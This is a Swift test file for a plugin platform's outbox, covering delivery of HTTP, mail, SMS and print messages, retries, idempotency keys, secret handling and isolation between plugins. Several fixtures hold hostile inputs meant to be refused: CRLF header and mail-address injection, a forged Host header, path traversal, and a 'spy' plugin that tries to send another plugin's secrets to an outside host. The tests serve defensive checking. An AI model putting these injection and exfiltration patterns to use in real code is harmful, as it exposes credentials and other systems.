import Core
import Platform
import Storage
import Testing

@Suite struct OutboxTests {
    /// A plugin with one route that does what its body is: Lua text as a function of `req`.
    private static func plugin(_ lua: String, capabilities: String = "", more: [String: String] = [:]) -> [String: String] {
        Works.chores([
            "plugin.lua": """
                return { name = "chores", version = "1.0.0", permissions = { { "chores.do" } },
                  capabilities = { http = { "POST https://api.acme.test/v1/*", "GET https://api.acme.test/*" }, secret = { "token" }, \(capabilities) } }
                """,
            "routes/act.lua": """
                return { method = "POST", path = "/api/act", permission = "chores.do", input = { { "fail", "boolean" }, { "text", "text" } }, run = function(req)
                  local id = (function() \(lua) end)()
                  if req.body.fail then reject { code = "chores.no" } end
                  return { id = id }
                end }
                """,
        ].merging(more) { $1 })
    }

    private static let post = #"return http.send { method = "POST", url = "https://api.acme.test/v1/points", json = { points = 3 }, key = "p1" }"#

    @Test func `a request leaves after the commit, once under its key, with a stable key of its own`() throws {
        let works = try Works(Self.plugin(Self.post))
        #expect(code { try works.call(.post, "/api/act", ["fail": true]) } == "chores.no")
        works.settle()
        #expect(works.outside.current.requests.isEmpty)
        let first = try works.call(.post, "/api/act").value
        let again = try works.call(.post, "/api/act").value
        #expect(first["id"] == again["id"])
        works.settle()
        let requests = works.outside.current.requests
        #expect(requests.count == 1)
        #expect(requests[0].method == "POST" && requests[0].url == "https://api.acme.test/v1/points")
        #expect(String(decoding: requests[0].body, as: UTF8.self) == #"{"points":3}"#)
        let id = try #require(first["id"]?.int)
        let message = try works.call(.get, "/api/outbox/\(id)").value
        #expect(message["state"] == "sent" && message["attempts"] == 1 && message["target"] == "POST https://api.acme.test/v1/points", "\(message)")
        #expect(requests[0].headers.contains { $0.name == "Idempotency-Key" && $0.value == message["message_key"]?.string })
    }

    @Test func `what does not get through is tried later and later under the same key, and given up in the end`() throws {
        let works = try Works(Self.plugin(Self.post))
        works.outside.set { $0.response = OutboundResponse(status: 503, body: Array("busy".utf8)) }
        let id = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        var message = try works.call(.get, "/api/outbox/\(id)").value
        #expect(message["state"] == "pending" && message["last_error"] == "The other side answered 503: busy", "\(message)")
        #expect(message["next_at"] == .string(works.house.now.adding(seconds: 10).description))
        works.pass(seconds: 9)
        #expect(works.outside.current.requests.count == 1)
        works.pass(seconds: 1)
        #expect(works.outside.current.requests.count == 2)
        for _ in 0..<20 { works.pass(seconds: 3_600) }
        message = try works.call(.get, "/api/outbox/\(id)").value
        #expect(message["state"] == "dead" && message["attempts"] == 16, "\(message)")
        let keys = Set(works.outside.current.requests.compactMap { $0.headers.first { $0.name == "Idempotency-Key" }?.value })
        #expect(works.outside.current.requests.count == 16 && keys.count == 1)
        works.outside.set { $0.response = OutboundResponse(status: 201) }
        _ = try works.call(.post, "/api/outbox/\(id)/retry")
        works.settle()
        #expect(try works.call(.get, "/api/outbox/\(id)").value["state"] == "sent")
        #expect(code { try works.call(.post, "/api/outbox/\(id)/retry") } == "outbox.not_retryable")
    }

    @Test func `the caller's own key goes out as it is, and what is under it is sent once`() throws {
        let works = try Works(Self.plugin(
            #"return http.send { method = "POST", url = "https://api.acme.test/v1/points", json = { text = req.body.text }, idempotency_key = "order-7" }"#,
            more: [
                "jobs/ask.lua": #"""
                    return { id = "ask", fetch = function() return http.request { url = "https://api.acme.test/x", idempotency_key = "ask-1" } end, run = function() end }
                    """#
            ]))
        let first = try works.call(.post, "/api/act", ["text": "a"]).value
        #expect(try works.call(.post, "/api/act", ["text": "b"]).value["id"] == first["id"])
        works.settle()
        _ = try works.run("chores.ask")
        works.settle()
        let keys = works.outside.current.requests.map { $0.headers.filter { $0.name == "Idempotency-Key" }.map(\.value) }
        #expect(keys == [["order-7"], ["ask-1"]])
        for bad in [#"idempotency_key = "a b""#, #"idempotency_key = "a\r\nX: y""#, #"idempotency_key = """#, #"idempotency_key = 7"#, #"idempotency_key = "a", key = "b""#] {
            let broken = try Works(Self.plugin("return http.send { method = \"POST\", url = \"https://api.acme.test/v1/x\", \(bad) }"))
            #expect(code { try broken.call(.post, "/api/act") } == "script.argument", "\(bad)")
        }
    }

    @Test func `what the other side will not have is not sent again`() throws {
        let works = try Works(Self.plugin(Self.post))
        works.outside.set { $0.response = OutboundResponse(status: 422) }
        let id = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        #expect(try works.call(.get, "/api/outbox/\(id)").value["state"] == "dead")
        #expect(works.outside.current.requests.count == 1)
    }

    @Test func `an attempt whose end nobody saw is told as such, and what waits can be cancelled`() throws {
        let works = try Works(Self.plugin(Self.post))
        works.outside.set { $0.failure = OutboundFailure(code: "http.timeout", message: "too late", isUnsure: true) }
        let id = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        let message = try works.call(.get, "/api/outbox/\(id)").value
        #expect(message["unsure"] == true && message["last_error"] == "http.timeout: too late", "\(message)")
        #expect(try works.call(.post, "/api/outbox/\(id)/cancel").value["state"] == "cancelled")
        #expect(code { try works.call(.post, "/api/outbox/\(id)/cancel") } == "outbox.not_pending")
        works.pass(seconds: 3_600)
        #expect(works.outside.current.requests.count == 1)
        let list = try works.call(.get, "/api/outbox", query: [("state", "cancelled"), ("kind", "http")]).value["items"]?.array
        #expect(list?.count == 1 && list?.first?["payload"] == nil)
    }

    @Test(arguments: [
        (#"return http.send { method = "POST", url = "https://evil.test/v1/x" }"#, "script.capability"),
        (#"return http.send { method = "DELETE", url = "https://api.acme.test/v1/x" }"#, "script.capability"),
        (#"return http.send { method = "POST", url = "https://api.acme.test/v1/../admin" }"#, "http.url_invalid"),
        (#"return http.send { method = "POST", url = "https://api.acme.test/v1/x", headers = { Host = "evil.test" } }"#, "http.header_invalid"),
        (#"return http.send { method = "POST", url = "https://api.acme.test/v1/x", headers = { ["X-A"] = "a\r\nX-B: c" } }"#, "http.header_invalid"),
        (#"return http.request { url = "https://api.acme.test/x" }"#, "script.phase"),
        (#"return http.send { method = "POST", url = "https://api.acme.test/v1/x", headers = { A = secret.header("other") } }"#, "script.capability"),
        (#"return secret.sign("token", "text")"#, "secret.missing"),
        (#"return mail.send { to = "nobody", subject = "s", text = "t" }"#, "mail.address_invalid"),
        (#"return mail.send { to = "a@b.test\r\nBcc: c@d.test", subject = "s", text = "t" }"#, "mail.address_invalid"),
        (#"return mail.send { to = "a@b.test", text = "t" }"#, "script.argument"),
        (#"return message.send { to = "me", text = "t" }"#, "script.argument"),
        (#"return print.raw { till = 1 }"#, "script.argument"),
    ])
    func `what may not be sent is refused by name`(lua: String, expected: String) throws {
        let works = try Works(Self.plugin(lua))
        #expect(code { try works.call(.post, "/api/act") } == expected)
        #expect(try works.call(.get, "/api/outbox").value["items"] == [])
    }

    @Test func `secrets go where they are meant to go and are seen nowhere`() throws {
        let works = try Works(Self.plugin(
            #"""
            log.info("handle", { h = secret.header("token", "Bearer ") })
            record.create("chores.mark", { label = secret.sign("token", "text") })
            return http.send { method = "POST", url = "https://api.acme.test/v1/x", headers = { Authorization = secret.header("token", "Bearer ") } }
            """#))
        #expect(code { try works.call(.put, "/api/secrets/chores.none", ["value": "x"]) } == "secret.unknown")
        _ = try works.call(.put, "/api/secrets/chores.token", ["value": "s3cr3t-w0rd"])
        let id = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        let request = try #require(works.outside.current.requests.first)
        #expect(request.headers.contains { $0 == ("Authorization", "Bearer s3cr3t-w0rd") })
        #expect(try works.marks() == [Digest.hex(Digest.hmacSHA256(key: Array("s3cr3t-w0rd".utf8), Array("text".utf8)))])
        #expect(!JSON.text(try works.call(.get, "/api/outbox/\(id)").value).contains("s3cr3t"))
        let listed = try works.call(.get, "/api/secrets").value
        #expect(!JSON.text(listed).contains("s3cr3t") && listed["items"]?.array?.first { $0["name"] == "chores.token" }?["set"] == true)
        #expect(try works.house.fileContains(Array("s3cr3t-w0rd".utf8)) == false)
        _ = try works.call(.delete, "/api/secrets/chores.token")
        #expect(code { try works.call(.delete, "/api/secrets/chores.token") } == "secret.not_found")
    }

    @Test func `fetch asks outside and run keeps what came`() throws {
        let works = try Works(Self.plugin("return 1", more: [
            "jobs/rates.lua": #"""
                return { id = "rates",
                  fetch = function()
                    local answer, err = http.request { url = "https://api.acme.test/rates" }
                    if not answer then return { failed = err.code } end
                    return { rate = answer.json.rate, status = answer.status }
                  end,
                  run = function(_, fetched) record.create("chores.mark", { label = (fetched.rate or fetched.failed) .. "" }) end }
                """#
        ]))
        works.outside.set {
            $0.response = OutboundResponse(status: 200, headers: [("content-type", "application/json")], body: Array(#"{"rate":"1.25"}"#.utf8))
        }
        _ = try works.run("chores.rates")
        works.settle()
        works.outside.set { $0.failure = OutboundFailure(code: "http.timeout", message: "late", isUnsure: true) }
        _ = try works.run("chores.rates")
        works.settle()
        #expect(try works.marks() == ["1.25", "http.timeout"])
    }

    @Test func `mail, short messages and prints go by the tenant's settings, and wait for them`() throws {
        let works = try Works(Self.plugin(
            #"""
            message.send { to = "+233 20 123", text = "Say \"hi\" & go" }
            print.raw { text = "receipt\n", till = 1 }
            return mail.send { to = { "ada@example.com", "Bo <bo@example.com>" }, subject = "Grüße", text = "Body", key = "m" }
            """#))
        let actor = works.house.actor
        try works.tenant.store.write { db in
            let branch = try Branches.create(db, actor, code: "ACC-01", name: "Accra")
            _ = try Tills.create(db, actor, branchID: branch.id, code: "T1", name: "Till")
        }
        _ = try works.call(.post, "/api/act")
        works.settle()
        let waiting = try works.call(.get, "/api/outbox").value["items"]?.array ?? []
        #expect(waiting.count == 4 && waiting.allSatisfy { $0["state"] == "pending" && $0["last_error"]?.string?.contains("not_configured") == true }, "\(waiting)")
        _ = try works.call(.put, "/api/settings", ["values": [
            "mail.host": "mail.acme.test", "mail.from": "Acme <shop@acme.test>", "mail.user": "shop", "message.url": "https://sms.test/send?to={to}",
            "message.authorization": "Token {secret}", "message.sender": "ACME",
        ]])
        _ = try works.call(.put, "/api/settings", ["till": 1, "values": ["print.host": "printer.test", "print.port": 9_101]])
        _ = try works.call(.put, "/api/secrets/mail.password", ["value": "pw"])
        _ = try works.call(.put, "/api/secrets/message.token", ["value": "tk"])
        works.pass(seconds: 10)
        let now = works.outside.current
        // They leave on several threads, in any order.
        #expect(now.mails.count == 2)
        #expect(Set(now.mails.map(\.recipient)) == ["ada@example.com", "bo@example.com"])
        let mail = try #require(now.mails.first { $0.recipient == "ada@example.com" })
        #expect(mail.host == "mail.acme.test" && mail.port == 587 && mail.security == .starttls && mail.user == "shop" && mail.password == "pw")
        #expect(mail.sender == "shop@acme.test")
        let text = String(decoding: mail.message, as: UTF8.self)
        #expect(text.contains("\r\nSubject: =?utf-8?B?R3LDvMOfZQ==?=\r\n") && text.hasSuffix("\r\n\r\nBody\r\n"), "\(text)")
        let short = try #require(now.requests.first)
        #expect(short.url == "https://sms.test/send?to=%2B233%2020%20123" && short.headers.contains { $0 == ("Authorization", "Token tk") })
        let body = try JSON.parse(short.body)
        #expect(body["text"] == "Say \"hi\" & go" && body["sender"] == "ACME" && body["to"] == "+233 20 123")
        #expect(now.prints.count == 1 && now.prints[0].host == "printer.test" && now.prints[0].port == 9_101 && now.prints[0].bytes == Array("receipt\n".utf8))
    }

    @Test func `what a mail server refuses for good is given up`() throws {
        let works = try Works(Self.plugin(#"return mail.send { to = "ada@example.com", subject = "s", text = "t" }"#))
        _ = try works.call(.put, "/api/settings", ["values": ["mail.host": "mail.acme.test", "mail.from": "shop@acme.test"]])
        works.outside.set { $0.failure = OutboundFailure(code: "http.failed", message: "RCPT failed: 550", isUnsure: false, status: 550) }
        let id = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        #expect(try works.call(.get, "/api/outbox/\(id)").value["state"] == "dead")
        works.outside.set { $0.failure = OutboundFailure(code: "http.failed", message: "login denied", isUnsure: false, status: 535) }
        let other = try #require(works.call(.post, "/api/act").value["id"]?.int)
        works.settle()
        #expect(try works.call(.get, "/api/outbox/\(other)").value["state"] == "pending")
    }

    @Test(arguments: [
        (#"return settings.get("chores.rate")"#, "script.argument"), (#"return settings.get("rate")"#, "script.argument"),
        (#"return secret.sign("token", "x")"#, "script.capability"), (#"return secret.sign("chores.token", "x")"#, "script.capability"),
        (#"return secret.header("chores.token")"#, "script.capability"), (#"return job.enqueue("chores.pages", {})"#, "script.argument"),
        (#"return http.send { method = "POST", url = "https://api.acme.test/v1/x" }"#, "script.capability"),
        (#"return mail.send { to = "a@b.test", template = "chores.ready" }"#, "template.unknown"),
        (#"return event.emit("chores.rang", {})"#, "script.argument"),
    ])
    func `a plugin reaches nothing of its neighbour's`(lua: String, expected: String) throws {
        var neighbour = Self.plugin("return 1", more: [
            "jobs/pages.lua": JobTests.pages, "notifications/ready.lua": #"return { id = "ready", text = "x" }"#,
        ])
        neighbour["plugin.lua"] = neighbour["plugin.lua"]?.replacing(
            "capabilities =", with: #"settings = { { key = "rate", type = "integer", default = 1 } }, capabilities ="#)
        let works = try Works(neighbour)
        _ = try works.call(.put, "/api/secrets/chores.token", ["value": "s3cr3t"])
        try works.install([
            "plugin.lua": #"return { name = "spy", version = "1.0.0", depends = { chores = "^1.0" }, permissions = { { "spy.do" } } }"#,
            "routes/spy.lua": """
                return { method = "POST", path = "/api/spy", permission = "spy.do", run = function() return { (function() \(lua) end)() } end }
                """,
        ])
        #expect(code { try works.call(.post, "/api/spy") } == expected)
    }

    @Test func `a handle that a script makes up opens its own plugin's secrets only`() throws {
        let works = try Works(Self.plugin("return 1"))
        _ = try works.call(.put, "/api/secrets/chores.token", ["value": "s3cr3t"])
        try works.install([
            "plugin.lua": #"""
                return { name = "spy", version = "1.0.0", permissions = { { "spy.do" } }, capabilities = { http = { "POST https://spy.test/*" } } }
                """#,
            "routes/spy.lua": #"""
                return { method = "POST", path = "/api/spy", permission = "spy.do", run = function()
                  for _, name in ipairs { "token", "chores.token", "../chores.token" } do
                    http.send { method = "POST", url = "https://spy.test/x", headers = { ["X-Token"] = { secret = name } } }
                  end
                end }
                """#,
        ])
        _ = try works.call(.post, "/api/spy")
        works.settle()
        #expect(works.outside.current.requests.isEmpty)
        let messages = try works.call(.get, "/api/outbox").value["items"]?.array ?? []
        #expect(messages.count == 3 && messages.allSatisfy { $0["last_error"]?.string?.hasPrefix("secret.missing") == true }, "\(messages)")
    }
}
